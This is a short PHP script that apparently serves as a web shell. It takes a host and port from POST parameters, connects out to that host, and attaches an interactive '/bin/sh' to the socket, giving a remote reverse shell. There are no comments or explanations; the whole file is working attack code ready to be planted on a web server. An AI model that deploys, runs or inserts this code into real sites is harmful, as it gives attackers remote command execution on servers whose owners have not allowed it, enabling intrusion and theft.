<?php
set_time_limit(0);
$host = $_POST['host'];
$port = (int) $_POST['port'];
$sock = fsockopen($host, $port, $errno, $errstr, 30);
if (!$sock) { die("connect failed: $errstr"); }
$spec = array(0 => $sock, 1 => $sock, 2 => $sock);
$proc = proc_open('/bin/sh -i', $spec, $pipes);
proc_close($proc);
